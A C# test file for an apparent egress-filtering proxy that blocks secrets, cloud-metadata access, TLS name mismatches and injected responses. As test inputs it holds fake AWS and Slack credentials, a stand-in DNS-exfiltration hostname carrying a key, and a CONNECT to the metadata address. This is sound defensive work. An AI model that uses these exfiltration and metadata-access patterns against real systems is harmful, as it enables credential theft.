using System.Net;
using System.Net.Http;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json;
using Palisade.Tests.Gateway.Egress.Support;

namespace Palisade.Tests.Gateway.Egress;

/// <summary>Issue 6 point 1 and 7: the forward proxy with real clients (HttpClient with WebProxy, curl) against loopback HTTP and HTTPS.</summary>
public sealed class ForwardProxyTests
{
    private const string AwsKey = "AKIAZ3MQ7TP4XJ2LKW5N";

    [Fact]
    public async Task HttpClient_through_the_proxy_reaches_a_trusted_loopback_origin_and_the_request_is_audited()
    {
        await using var h = await ProxyHarness.StartAsync();
        using var client = h.Client();
        var body = await client.GetStringAsync($"http://127.0.0.1:{h.Origin.HttpPort}/hello");
        Assert.Equal("hello from origin", body);
        Assert.Contains(h.Origin.Seen, s => s.Target == "/hello");
        var record = Assert.Single(h.ProxyVerdicts(), r => r.GetProperty("kind").GetString() == "http_request");
        Assert.Equal("allow", record.GetProperty("decision").GetString());
    }

    [Fact]
    public async Task A_secret_in_a_request_body_is_blocked_with_the_design_body_and_headers_and_never_reaches_the_origin()
    {
        await using var h = await ProxyHarness.StartAsync();
        using var client = h.Client();
        var response = await client.PostAsync($"http://127.0.0.1:{h.Origin.HttpPort}/echo", new StringContent($"{{\"aws_access_key_id\":\"{AwsKey}\"}}"));
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("block", response.Headers.GetValues("Palisade-Decision").Single());
        Assert.Equal("aws-access-key-id", response.Headers.GetValues("Palisade-Rule").Single());
        var error = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("error");
        Assert.Equal("palisade_blocked", error.GetProperty("type").GetString());
        Assert.Equal(response.Headers.GetValues("Palisade-Event-Id").Single(), error.GetProperty("event_id").GetString());
        Assert.DoesNotContain(AwsKey, await response.Content.ReadAsStringAsync());
        Assert.DoesNotContain(h.Origin.Seen, s => s.Target == "/echo");
    }

    [Fact]
    public async Task A_secret_in_a_header_is_blocked()
    {
        await using var h = await ProxyHarness.StartAsync();
        using var client = h.Client();
        using var request = new HttpRequestMessage(HttpMethod.Get, $"http://127.0.0.1:{h.Origin.HttpPort}/hello");
        request.Headers.Add("X-Debug", "xoxb-263594206564-2343594206574-FGqddMF8t08v8N7Oq4i57vs1");
        var response = await client.SendAsync(request);
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("slack-bot-token", response.Headers.GetValues("Palisade-Rule").Single());
    }

    [Fact]
    public async Task Curl_with_x_reaches_the_origin_and_is_blocked_on_a_secret_in_the_query()
    {
        Assert.SkipUnless(ProxyHarness.CurlAvailable, "curl is not installed on this machine.");
        await using var h = await ProxyHarness.StartAsync();
        var ok = await ProxyHarness.CurlAsync(["-s", "-x", h.ProxyUrl.ToString(), $"http://127.0.0.1:{h.Origin.HttpPort}/hello"]);
        Assert.Equal("hello from origin", ok.Out);
        var blocked = await ProxyHarness.CurlAsync(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-x", h.ProxyUrl.ToString(), $"http://127.0.0.1:{h.Origin.HttpPort}/hello?key={AwsKey}"]);
        Assert.Equal("403", blocked.Out);
    }

    [Fact]
    public async Task Curl_with_HTTPS_PROXY_tunnels_to_an_https_origin_without_interception()
    {
        Assert.SkipUnless(ProxyHarness.CurlAvailable, "curl is not installed on this machine.");
        await using var h = await ProxyHarness.StartAsync();
        var pem = Path.Combine(h.CaDirectory, "origin.pem");
        await File.WriteAllTextAsync(pem, h.Origin.CertificatePem);
        var result = await ProxyHarness.CurlAsync(["-s", "--cacert", pem, $"https://localhost:{h.Origin.HttpsPort}/hello"],
            new Dictionary<string, string> { ["HTTPS_PROXY"] = h.ProxyUrl.ToString() });
        Assert.True(result.Code == 0, result.Err);
        Assert.Equal("hello from origin", result.Out);
        // The tunnel was judged as a CONNECT, and nothing inside it was read.
        Assert.Contains(h.ProxyVerdicts(), r => ProxyHarness.Extra(r, "method") == "CONNECT");
    }

    [Fact]
    public async Task A_CONNECT_to_the_metadata_endpoint_is_answered_403_with_palisade_headers_and_body()
    {
        await using var h = await ProxyHarness.StartAsync();
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(IPAddress.Loopback, h.ProxyUrl.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync("CONNECT 169.254.169.254:443 HTTP/1.1\r\nHost: 169.254.169.254:443\r\n\r\n"u8.ToArray());
        var answer = await new StreamReader(stream, Encoding.ASCII).ReadToEndAsync().WaitAsync(TimeSpan.FromSeconds(10));
        Assert.StartsWith("HTTP/1.1 403 Forbidden\r\n", answer);
        Assert.Contains("Palisade-Decision: block\r\n", answer);
        Assert.Contains("Palisade-Rule: egress-metadata\r\n", answer);
        var body = JsonDocument.Parse(answer[(answer.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..]).RootElement;
        Assert.Equal("palisade_blocked", body.GetProperty("error").GetProperty("type").GetString());
    }

    [Fact]
    public async Task A_secret_in_a_CONNECT_host_is_blocked_before_any_lookup_and_the_record_does_not_hold_it()
    {
        var origin = await OriginServer.StartAsync();
        var resolver = new ScriptedResolver(new Dictionary<string, IPAddress[][]>());
        await using var h = await ProxyHarness.StartAsync(o => o with { Resolver = resolver }, origin: origin);
        const string Host = "AKIAZ3MQ7TP4XJ2LKW5N.exfil.example.com";
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(IPAddress.Loopback, h.ProxyUrl.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT {Host}:443 HTTP/1.1\r\nHost: {Host}:443\r\n\r\n"));
        var answer = await new StreamReader(stream, Encoding.ASCII).ReadToEndAsync().WaitAsync(TimeSpan.FromSeconds(10));
        Assert.StartsWith("HTTP/1.1 403 Forbidden\r\n", answer);
        Assert.Equal(0, resolver.Calls(Host));
        Assert.DoesNotContain("AKIAZ3MQ7TP4XJ2LKW5N", answer);
        await h.Gateway.Running.StopAsync();
        var records = string.Join("\n", h.Gateway.AuditRecords().Select(r => r.GetRawText()));
        Assert.Contains("example.com (+2 labels, h:", records);
        Assert.DoesNotContain("AKIAZ3MQ7TP4XJ2LKW5N", records);
    }

    [Fact]
    public async Task A_TLS_server_name_that_is_not_the_CONNECT_host_closes_the_tunnel_and_is_recorded()
    {
        await using var h = await ProxyHarness.StartAsync();
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(IPAddress.Loopback, h.ProxyUrl.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT localhost:{h.Origin.HttpsPort} HTTP/1.1\r\nHost: localhost\r\n\r\n"));
        var head = new byte[39];
        await stream.ReadExactlyAsync(head);
        Assert.Equal("HTTP/1.1 200 Connection Established\r\n\r\n", Encoding.ASCII.GetString(head));
        using var tls = new SslStream(stream, false, (_, _, _, _) => true);
        await Assert.ThrowsAnyAsync<Exception>(() => tls.AuthenticateAsClientAsync("allowed-front.example").WaitAsync(TimeSpan.FromSeconds(10)));
        Assert.Contains(h.ProxyVerdicts(), r => ProxyHarness.Str(r, "rule") == "proxy-sni-mismatch" && ProxyHarness.Str(r, "decision") == "block");
    }

    [Fact]
    public async Task With_interception_HttpClient_sees_a_leaf_from_the_palisade_CA_and_secrets_inside_TLS_are_blocked()
    {
        await using var h = await ProxyHarness.StartAsync(o => o with { Intercept = true });
        X509Certificate2? seen = null;
        var ca = X509Certificate2.CreateFromPem(File.ReadAllText(h.CaPem));
        using var handler = new SocketsHttpHandler
        {
            Proxy = new WebProxy(h.ProxyUrl),
            SslOptions = new SslClientAuthenticationOptions
            {
                RemoteCertificateValidationCallback = (_, cert, _, _) =>
                {
                    seen = new X509Certificate2(cert!);
                    return ProxyHarness.ChainsTo(seen, ca);
                },
            },
        };
        using var client = new HttpClient(handler);
        Assert.Equal("hello from origin", await client.GetStringAsync($"https://localhost:{h.Origin.HttpsPort}/hello"));
        Assert.NotNull(seen);
        Assert.Equal(ca.Subject, seen!.Issuer);
        Assert.NotEqual(h.Origin.Certificate.Thumbprint, seen.Thumbprint);

        var blocked = await client.PostAsync($"https://localhost:{h.Origin.HttpsPort}/echo", new StringContent($"key={AwsKey}"));
        Assert.Equal(HttpStatusCode.Forbidden, blocked.StatusCode);
        Assert.Equal("aws-access-key-id", blocked.Headers.GetValues("Palisade-Rule").Single());
        Assert.Equal(1, h.Module.Services.Leaves!.Count);
    }

    [Fact]
    public async Task With_interception_curl_trusts_the_CA_with_cacert_and_gets_the_403_from_inside_the_tunnel()
    {
        Assert.SkipUnless(ProxyHarness.CurlAvailable, "curl is not installed on this machine.");
        await using var h = await ProxyHarness.StartAsync(o => o with { Intercept = true });
        var ok = await ProxyHarness.CurlAsync(["-s", "--cacert", h.CaPem, "-x", h.ProxyUrl.ToString(), $"https://localhost:{h.Origin.HttpsPort}/hello"]);
        Assert.True(ok.Code == 0, ok.Err);
        Assert.Equal("hello from origin", ok.Out);
        var blocked = await ProxyHarness.CurlAsync(["-s", "-i", "--cacert", h.CaPem, "-x", h.ProxyUrl.ToString(), "-H", $"X-Token: {AwsKey}", $"https://localhost:{h.Origin.HttpsPort}/hello"]);
        Assert.Contains("HTTP/1.1 403", blocked.Out);
        Assert.Contains("palisade-rule: aws-access-key-id", blocked.Out, StringComparison.OrdinalIgnoreCase);
        // Without the CA, curl refuses the minted leaf: interception is visible, never silent.
        var untrusted = await ProxyHarness.CurlAsync(["-s", "-x", h.ProxyUrl.ToString(), $"https://localhost:{h.Origin.HttpsPort}/hello"]);
        Assert.Equal(60, untrusted.Code);
    }

    [Fact]
    public async Task A_passthrough_host_is_not_intercepted_even_with_interception_on()
    {
        await using var h = await ProxyHarness.StartAsync(o => o with
        {
            Intercept = true,
            Passthrough = Palisade.Gateway.Egress.EgressProxyModule.ParseHosts(["localhost"], "--passthrough"),
        });
        X509Certificate2? seen = null;
        using var handler = new SocketsHttpHandler
        {
            Proxy = new WebProxy(h.ProxyUrl),
            SslOptions = new SslClientAuthenticationOptions { RemoteCertificateValidationCallback = (_, cert, _, _) => (seen = new X509Certificate2(cert!)) is not null },
        };
        using var client = new HttpClient(handler);
        Assert.Equal("hello from origin", await client.GetStringAsync($"https://localhost:{h.Origin.HttpsPort}/hello"));
        Assert.Equal(h.Origin.Certificate.Thumbprint, seen!.Thumbprint);
    }

    [Fact]
    public async Task Injection_in_an_intercepted_https_response_is_blocked_before_the_agent_reads_it()
    {
        await using var h = await ProxyHarness.StartAsync(o => o with { Intercept = true });
        using var client = h.Client();
        var response = await client.GetAsync($"https://localhost:{h.Origin.HttpsPort}/inject");
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var record = h.ProxyVerdicts().Last(r => r.GetProperty("decision").GetString() == "block");
        Assert.Equal("http_response", record.GetProperty("kind").GetString());
    }
}
